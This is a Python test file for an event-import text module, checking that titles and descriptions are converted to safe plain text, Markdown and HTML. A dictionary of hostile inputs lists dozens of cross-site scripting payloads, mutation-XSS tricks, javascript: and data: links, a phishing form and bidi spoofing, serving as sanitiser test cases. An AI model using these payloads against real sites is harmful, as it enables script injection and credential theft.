"""Titles as plain text, descriptions as Markdown and as HTML: what is kept, and that nothing hostile gets through."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from calimport import text

BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
ZERO_WIDTH = "\u200b\u2060\ufeff"


class Page(HTMLParser):
    """What a browser would find on a page: tags with their attributes, and the text."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.words = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words += data

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    def links(self):
        return [attributes["href"] for tag, attributes in self.tags if tag == "a"]


def careless() -> MarkdownIt:
    """A renderer that lets everything through: raw HTML, images, links of any scheme."""
    renderer = MarkdownIt("commonmark", {"html": True})
    renderer.validateLink = lambda url: True
    return renderer


CARELESS = careless()


def check_harmless(markup: str, *, allowed: frozenset[str] = text.TAGS) -> None:
    page = Page(markup)
    assert {tag for tag, _ in page.tags} <= allowed
    assert page.others == []
    for tag, attributes in page.tags:
        # CommonMark's own: a list that begins with another number than 1. `text.html` drops it.
        known = {"a": {"href"}, "ol": {"start"}}
        assert attributes.keys() <= known.get(tag, set()), (tag, attributes)
    for link in page.links():
        assert urlsplit(link or "").scheme in text.SCHEMES, link
    assert not set(markup) & set(BIDI + ZERO_WIDTH + "\x00")


HOSTILE = {
    "script": "<script>alert(1)</script>Hello",
    "script with a type": '<p>Hello</p><script type="module" src="//evil.example/x.js"></script>',
    "script left open": "Hello<script>alert(1)",
    "script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT >",
    "script after a NUL": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "event handler": '<img src=x onerror="alert(1)">',
    "event handler without quotes": "<p onclick=alert(1)>Hello</p>",
    "event handler after a slash": "<svg/onload=alert(1)>",
    "event handler of an unknown element": "<x onmouseover=alert(1)>Hello</x>",
    "event handler in a tag left open": "Hello <img src=x onerror=alert(1) ",
    "event handler beside a link": '<a href="https://example.org" onmouseover="alert(1)">x</a>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript link with an entity": '<a href="java&#x09;script&colon;alert(1)">x</a>',
    "javascript link after a control": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript link after a zero width": '<a href="\u200bjavascript:alert(1)">x</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "vbscript link": '<a href=" vbscript:msgbox(1)">x</a>',
    "file link": '<a href="file:///etc/passwd">x</a>',
    "relative link": '<a href="/admin?delete=1">x</a>',
    "link without a scheme": '<a href="//evil.example">x</a>',
    "style": "<style>*{display:none}</style><p style='position:fixed;top:0'>Hello</p>",
    "expression": '<div style="width: expression(alert(1))">x</div>',
    "frame": '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
    "form": '<form action="https://evil.example"><input name=password><button>OK</button></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "comment": "<!-- <img src=x onerror=alert(1)> -->",
    "comment of a browser": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "nesting": "<b><i><a href='https://example.org'><b>x</i></b></a></p></div><table><td>y",
    "nesting without an end": "<b><i>" * 2000 + "x",
    "lists without an end": "<ul><li>" * 2000 + "x",
    "many items": "<ul>" + "<li>x</li>" * 6000 + "</ul>",
    "mutation through noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation through style in svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "mutation through math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "mutation through template": "<template><script>alert(1)</script></template><select><template><img src onerror=a>",
    "mutation through entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "mutation through entities twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "mutation through entities in a tag": "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "mutation through an empty tag": "<p>&lt;<b></b>script>alert(1)&lt;<i></i>/script></p>",
    "link of Markdown": "[x](javascript:alert(1))",
    "link of Markdown across tags": "<p>[x]<b></b>(javascript:alert(1))</p>",
    "link of Markdown behind a zero width": "<p>[x]&#x200b;(javascript:alert(1)) [y]\u200b(data:text/html,z)</p>",
    "link of Markdown with a title": '[x](<javascript:alert(1)> "title")',
    "link of Markdown by reference": "[x][1] and [1]\n\n[1]: javascript:alert(1)",
    "link of Markdown escaped": "\\[x\\](javascript:alert(1)) [y\\\\](javascript:alert(1))",
    "image of Markdown": "![x](https://evil.example/track.png)",
    "image of Markdown from a link": "<p>!<a href='https://evil.example/track.png'>x</a></p>",
    "image of Markdown from an escaped link": "<p>\\!<a href='https://evil.example/track.png'>x</a></p>",
    "image of Markdown by reference": "![x]\n\n[x]: https://evil.example/track.png",
    "address of Markdown": "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "HTML of Markdown": "\\<script>alert(1)\\</script>",
    "HTML in code of Markdown": "`<script>`alert(1)`</script>` and ``` <img src=x onerror=alert(1)>",
    "HTML in a block of Markdown": "    <script>alert(1)</script>\n\n> <img src=x onerror=alert(1)>\n\n* <svg onload=a",
    "HTML after a link's end": "<a href='https://example.org/)<script>alert(1)</script>'>x</a>",
    "HTML in a link's text": "<a href='https://example.org'>](https://evil.example)&lt;img src onerror=a&gt;</a>",
    "a link's text that ends with a backslash": "<a href='https://example.org'>x\\</a>(javascript:alert(1))",
    "bidi controls": f"invoice\u202egpj.exe <b>{BIDI}x</b> &#x202e;y",
    "zero width": f"pay{ZERO_WIDTH}pal <b>&#8203;x</b>",
    "controls": "a\x00b\x1b[31mc\x9bd<b>\x07</b>&#0;",
    "lone surrogates": "a\ud800b<b>\udfff</b>",
}


@pytest.mark.parametrize("given", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_is_harmless_as_markdown_as_html_and_as_title(given):
    described = text.markdown(given) or ""
    check_harmless(text.html(described))
    # No renderer of somebody else makes more of it: code is what is shown, not run.
    check_harmless(CARELESS.render(described), allowed=text.TAGS | {"code", "pre"})
    # A title is no HTML, but who puts it on a page as if it were runs nothing either.
    title = text.plain(given) or ""
    assert not text.is_html(title)
    assert all(value is None for _, attributes in Page(title).tags for value in attributes.values())
    assert not set(title) & set(BIDI + ZERO_WIDTH + "\x00")


# fmt: off
PIECES = st.sampled_from([
    *"<>&!*_[]()`#-=~\\/:;\"' \n\t1.ax", "&lt;", "&gt;", "&amp;", "&#x200b;", "\u200b", "](", "![", "]:", "<!--", "-->",
    "<b>", "</b>", "<i></i>", "<p>", "<br>", "<ul><li>", "<a href='https://e.org/x'>", "</a>", "<script>", "<img ",
    "src=x onerror=x", "javascript:x", "https://e.org/(", "<a href='https://e.org/)", "\\\\", "```", "---", "1. ",
])
# fmt: on


@given(st.lists(PIECES, max_size=25).map("".join))
@example("<b>\\</b>[x](javascript:x)")
@example("]\u200b(javascript:x)<b>[")
@example("<b>*")
@example(">---")
@example("- - - \n* # x\n1. ~~~")
def test_no_mixture_of_markup_is_more_than_its_tags(given):
    described = text.markdown(given) or ""
    check_harmless(text.html(described))
    check_harmless(CARELESS.render(described), allowed=text.TAGS | {"code", "pre"})


@given(st.text(alphabet=[*"ab <*_`[]()!#-+=~\\&;.1>\n|/:\"'"], max_size=60))
@example("\\ \n1")
def test_plain_text_is_shown_as_it_was_written(given):
    if text.is_html(given):
        return
    described = text.markdown(given) or ""
    shown = Page(text.html(described)).words
    # Bullets, numbers of lists and marks of quotes are shown as such; entities are what they stand for.
    assert _letters(shown) == _letters(given), described


def _letters(value: str) -> str:
    return "".join(character for character in value if character not in " \n>-+*1.)&;#")


@pytest.mark.parametrize(
    "given",
    [
        "5 < 6 and 2 * 3 > 4",
        "a <3 b, x<5, <- left",
        "[Zoom] Talk (room 4) #1 & more",
        "snake_case_name and 50% * off",
        "* one\n* two\n- three",
        "1. one\n2. two\n1. again",
        "Tickets: https://example.org/a_b?c=1&copy=2#d_e",
        "Join <https://zoom.us/j/1?pwd=a.b> or <anna@example.org>",
        "+44 161 496 0000",
        "C:\\temp and \\\\server",
        "*) only one star",
        "line\nanother line\n\nparagraph",
        "«Ünïcödé» – 東京 🎉 עברית ‏שלום",
        "👩‍💻 🏴󠁧󠁢󠁳󠁣󠁴󠁿 می‌خواهم",
    ],
)
def test_plain_text_that_needs_no_escape_has_none(given):
    expected = given.replace("\\\\server", "\\\\\\server")
    assert text.markdown(given) == expected
    assert text.plain(given) == " ".join(given.split())


@pytest.mark.parametrize(
    ("given", "expected", "html"),
    [
        ("<TBA> 2*3*4", "&lt;TBA> 2\\*3\\*4", "<p>&lt;TBA&gt; 2*3*4</p>"),
        ("a <b and c> d", "a &lt;b and c> d", "<p>a &lt;b and c&gt; d</p>"),
        ("Title\n-----\ntext", "Title\n\\-----\ntext", "<p>Title<br>\n-----<br>\ntext</p>"),
        ("# News", "\\# News", "<p># News</p>"),
        ("3. Dezember\n1. a\n2. b", "3\\. Dezember\n1. a\n2. b", None),
        ("_note_ and __init__", "\\_note\\_ and \\_\\_init\\_\\_", "<p>_note_ and __init__</p>"),
        ("Tom &amp; Jerry &lt;3", "Tom & Jerry <3", "<p>Tom &amp; Jerry &lt;3</p>"),
        ("use &amp;nbsp; here", "use \\&nbsp; here", "<p>use &amp;nbsp; here</p>"),
        ("`a` `b`", "\\`a\\` \\`b\\`", "<p>`a` `b`</p>"),
    ],
)
def test_plain_text_that_markdown_would_alter_is_escaped(given, expected, html):
    assert text.markdown(given) == expected
    assert html is None or text.html(expected) == html


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        (None, None),
        ("", None),
        (" \n ", None),
        ("<html><body></body></html>", None),
        ("<h1>One</h1><h2>Two</h2><h3>Three</h3><h6>Six</h6>", "### One\n\n### Two\n\n### Three\n\n###### Six"),
        ("<p class=x>one</p>\n<p>two<br>three</p>", "one\n\ntwo\nthree"),
        ("<b>bold</b>\nand <i>italic</i>", "**bold**\nand *italic*"),
        ("<ul><li>a</li><li>b</li></ul><ol><li>c</li><li>d</li></ol>", "- a\n- b\n\n1. c\n2. d"),
        ("<blockquote>said</blockquote>", "> said"),
        ('<a href="https://example.org/x" target="_blank">here</a>', "[here](https://example.org/x)"),
        ('<a href="https://example.org/x">https://example.org/x</a>', "<https://example.org/x>"),
        ('<a href="mailto:a@example.org">write</a>', "[write](mailto:a@example.org)"),
        ('<a href="https://example.org/a_(b)">x</a>', "[x](https://example.org/a_%28b%29)"),
        ('<a href="https://example.org/?a=1&amp;b=2">[x]</a>', "[\\[x\\]](https://example.org/?a=1&b=2)"),
        ('<a href="/here">x</a> <a>y</a>', "x y"),
        ('<img src="https://example.org/x.png" alt="x"><p>text</p>', "text"),
        ("<div>one</div><div>two</div><span>three</span>", "one\n\ntwo\n\nthree"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>a\nb</pre><p>c</p>", "a\nb\n\nc"),
        ("<p>5 &lt; 6 &amp; 2*3*4</p>", "5 < 6 & 2\\*3\\*4"),
        ("a\r\nb\rc", "a\nb\nc"),
        ("a\n\n\n\n\nb  \nc", "a\n\nb\nc"),
    ],
)
def test_a_description_as_markdown(given, expected):
    assert text.markdown(given) == expected


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        (None, None),
        ("  \n\t", None),
        ("Yoga\nfor   all\u2028now", "Yoga for all now"),
        ("Tom &amp; Jerry", "Tom & Jerry"),
        ("Q&A; R&D &copy 2026", "Q&A; R&D &copy 2026"),
        ("https://example.org/?a=1&lt=2", "https://example.org/?a=1&lt=2"),
        ("<b>Talk</b>: <i>x</i>", "Talk: x"),
        ("<p>Talk</p><p>Tea</p>", "Talk Tea"),
        ("&amp;lt;b&amp;gt;x", "x"),
        ("a < b, <TBA>, x <3", "a < b, <TBA>, x <3"),
        ("*bold* [x](y)", "*bold* [x](y)"),
        ("CafÃ© ðŸŽ‰", "Café 🎉"),
    ],
)
def test_a_title_as_plain_text(given, expected):
    assert text.plain(given) == expected


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("CafÃ©", "Café"),
        ("donâ€™t", "don’t"),
        ("donâ\x80\x99t", "don’t"),
        ("It’s CafÃ© time", "It’s Café time"),
        ("ÃœberfluÃŸ", "Überfluß"),
        ("20Â°C", "20°C"),
        ("CafÃƒÂ©", "Café"),
    ],
)
def test_broken_utf_8_is_repaired(given, expected):
    assert text.markdown(given) == text.plain(given) == expected


@pytest.mark.parametrize("given", ["„MENÜ“", "L’ÉTÉ…", "NOËL–", "SÃO PAULO", "VOILÀ » oui", "ESPAÑA®", "Ã la carte"])
def test_what_may_be_meant_is_not_repaired(given):
    assert text.markdown(given) == text.plain(given) == given


@pytest.mark.parametrize(
    ("plain", "markup", "expected"),
    [
        ("One two", "<p>One <b>two</b></p>", "<p>One <b>two</b></p>"),
        ("One two three four", "<html><body></body></html>", "One two three four"),
        ("One two three four", "<p>One</p>", "One two three four"),
        (None, "<p>One</p>", "<p>One</p>"),
        ("One", None, "One"),
        ("One", "not markup", "One"),
        (None, None, None),
    ],
)
def test_html_is_preferred_where_it_says_no_less(plain, markup, expected):
    assert text.richer(plain, markup) == expected


@pytest.mark.parametrize(
    "markdown", ["<script>x</script>", "[x](javascript:x)", "![x](https://e.org/x.png)", "# x\n\u202e"]
)
def test_html_is_safe_of_any_markdown(markdown):
    check_harmless(text.html(markdown))
